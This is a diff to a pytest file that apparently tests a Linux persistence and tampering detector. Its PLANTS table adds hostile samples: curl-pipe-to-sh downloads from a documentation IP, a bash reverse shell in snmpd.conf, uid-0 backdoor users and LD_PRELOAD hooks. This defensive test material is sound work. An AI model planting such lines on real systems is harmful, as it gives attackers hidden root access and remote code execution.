@@ -77,6 +77,23 @@ PLANTS = {
     "/etc/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
     "/root/.gitconfig": "[core]\n\tpager = /tmp/x\n",
     "/etc/update-motd.d/99-x": "#!/bin/sh\n/var/tmp/x\n",
+    "/etc/dracut.conf.d/x.conf": "curl -s http://203.0.113.66/x | sh\n",
+    "/etc/apache2/envvars": "export A=b\n/tmp/x\n",
+    "/etc/security/namespace.init": "#!/bin/sh\n/dev/shm/x\n",
+    "/etc/sysconfig/network-scripts/ifup-local": "#!/bin/sh\n/tmp/x\n",
+    "/usr/share/git-core/templates/hooks/post-checkout": "#!/bin/sh\n/tmp/x\n",
+    "/etc/fish/conf.d/x.fish": "/tmp/x\n",
+    "/root/.config/fish/conf.d/x.fish": "/tmp/x\n",
+    "/root/.config/environment.d/x.conf": "LD_PRELOAD=/usr/lib/x.so\n",
+    "/root/.vim/plugin/x.vim": ":silent !curl -s http://203.0.113.66/x | sh\n",
+    "/root/.local/share/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
+    "/etc/cloud/cloud.cfg.d/x.cfg": "bootcmd:\n  - curl -s http://203.0.113.66/x | sh\n",
+    "/etc/default/grub": "GRUB_TIMEOUT=5\ncurl -s http://203.0.113.66/x | sh\n",
+    "/etc/sysconfig/network-scripts/ifcfg-eth0": "ONBOOT=yes\nNAME=my /tmp/card\n",
+    "/etc/wireguard/wg0.conf": "[Interface]\nPostUp = /dev/shm/x\n",
+    "/etc/snmp/snmpd.conf": "extend x /bin/sh -c 'bash -i >& /dev/tcp/203.0.113.66/1 0>&1'\n",
+    "/etc/userdb/x.user": '{"userName":"x","uid":0,"gid":0}',
+    "/etc/sysusers.d/x.conf": "u x 0:0 - /root /bin/sh\n",
     "/etc/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
     "/usr/local/lib/python3.11/dist-packages/x.pth": "import base64;exec(base64.b64decode('aWQK'))\n",
     "/etc/ld.so.preload": "/usr/local/lib/libself.so\n",
@@ -346,7 +363,7 @@ def test_what_everybody_writes_for_themselves_is_no_sign(tmp_path: Path) -> None
 def test_a_proxy_of_root_is_to_be_explained(tmp_path: Path) -> None:
     put(clean(tmp_path), "/root/.ssh/config", "Host *\n  ProxyCommand /opt/x %h\n")
     (item,) = look(tmp_path).of(Verdict.NOTABLE)
-    assert "ssh's settings runs `/opt/x %h` as root" in item.says
+    assert "ssh's settings run `/opt/x %h` as root" in item.says
 
 
 OPTIONS = {
@@ -365,6 +382,18 @@ OPTIONS = {
     "/etc/pam.d/login": "auth optional pam_exec.so quiet expose_authtok /usr/bin/ls\n",
     "/etc/tmpfiles.d/x.conf": "f^ /root/.ssh/authorized_keys 0600 root :root - ssh.authorized_keys.root\n",
     "/etc/ssh/sshd_config": "Subsystem sftp /usr/lib/openssh/sftp-server.x\n",
+    "/etc/userdb/x.user": '{"userName":"x",\n"uid":600}',
+    "/etc/credstore/ssh.authorized_keys.root": "ssh-ed25519 AAAA x\n",
+    "/etc/credstore.encrypted/passwd.hashed-password.root": "aGFzaA==\n",
+    "/etc/sysusers.d/x.conf": "u x - - -\nm carol wheel\n",
+    "/var/lib/extensions/x/usr/lib/extension-release.d/extension-release.x": "ID=_any\n",
+    "/var/lib/confexts/x.raw": "hsqs\0",
+    "/etc/crypttab": "a /dev/a none luks,keyscript=decrypt_keyctl\nb /dev/b none luks,keyscript=/opt/x\n",
+    "/etc/audit/auditd.conf": "write_logs = no\n",
+    "/var/www/html/.user.ini": "auto_prepend_file = /x\n",
+    "/var/www/site/html/.htaccess": "php_value auto_prepend_file /x\n",
+    "/etc/nginx/fastcgi_params": "fastcgi_param PHP_VALUE auto_prepend_file=/x;\n",
+    "/etc/dnf/repos.override.d/x.repo": "[fedora]\ngpgcheck=0\n",
     "/etc/sudo.conf": "Plugin sudoers_policy sudoers.so\nPlugin x_policy x.so\n",
     "/etc/doas.conf": "permit persist :wheel\npermit keepenv nopass carol\n",
     "/etc/nsswitch.conf": "passwd: files systemd x\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
@@ -407,6 +436,47 @@ def test_a_hook_of_adduser_runs_as_root(tmp_path: Path) -> None:
     put(clean(tmp_path), "/usr/local/sbin/adduser.local", "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n")
     (item,) = look(tmp_path).of(Verdict.SUSPICIOUS)
     assert item.name.startswith("/usr/local/sbin/adduser.local")
+
+
+def test_blanks_push_nothing_out_of_sight_and_what_a_long_line_holds_is_not_said_to_be_fine(
+    tmp_path: Path,
+) -> None:
+    put(clean(tmp_path), "/etc/ssh/sshd_config", "PermitEmptyPasswords" + " " * 9000 + "yes\n")
+    put(tmp_path, "/etc/sudo.conf", "Plugin " + "x" * 9000 + " /tmp/x.so\n")
+    put(tmp_path, "/etc/nginx/nginx.conf", "a b;" * 3000 + "load_module /tmp/x.so;\n")
+    found = look(tmp_path)
+    told = {one.name for one in found.of(Verdict.SUSPICIOUS)}
+    assert told == {"/etc/ssh/sshd_config:1", "/etc/nginx/nginx.conf:1"}
+    assert {one.scope for one in found.unseen} == {"/etc/sudo.conf", "/etc/nginx/nginx.conf"}
+
+
+def test_options_that_are_looked_at_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for site in range(30):
+        put(clean(tmp_path), f"/var/www/s{site}/.htaccess", "a\n" * 100)
+    monkeypatch.setattr(settings, "MOST_BYTES", 2000)
+    (unseen,) = look(tmp_path).unseen
+    assert unseen.scope == "options of settings"
+
+
+def test_of_what_may_be_a_secret_nothing_is_told(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/credstore/passwd.plaintext-password.root", "hunter2\n")
+    put(tmp_path, "/etc/apt/sources.list.d/x.list", "deb [trusted=yes] http://u:hunter2@192.0.2.1 x y\n")
+    found = look(tmp_path).of(Verdict.NOTABLE)
+    assert len(found) == 2
+    assert "hunter2" not in str(found)
+
+
+def test_what_services_are_told_to_run_is_told_where_no_healthy_host_does_it(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/default/grub", "GRUB_DISTRIBUTOR=`( . /etc/os-release && echo ${NAME} )`\n")
+    put(tmp_path, "/etc/default/x", 'OPTIONS="-s /tmp/x.sock"\nMORE=-f /tmp/x\nTMPDIR=/tmp/x\n')
+    put(tmp_path, "/etc/sysconfig/network-scripts/ifcfg-eth0", 'NAME="my /tmp/card"\nONBOOT=yes\n')
+    put(tmp_path, "/etc/wireguard/wg0.conf", "[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n")
+    put(tmp_path, "/etc/dracut.conf.d/x.conf", 'hostonly="no"\nadd_drivers+=" xen-blkfront "\n')
+    put(tmp_path, "/etc/apache2/envvars", "export APACHE_RUN_DIR=/var/run/apache2$SUFFIX\n")
+    put(tmp_path, "/root/.config/environment.d/x.conf", "EDITOR=vim\n")
+    put(tmp_path, "/etc/sysusers.d/x.conf", 'u root 0:0 "Super User" /root\nu x 600 -\nm x audio\n')
+    assert not look(tmp_path).of(Verdict.SUSPICIOUS)
+    assert not look(tmp_path).of(Verdict.NOTABLE)
 
 
 @pytest.mark.parametrize("path", OPTIONS)
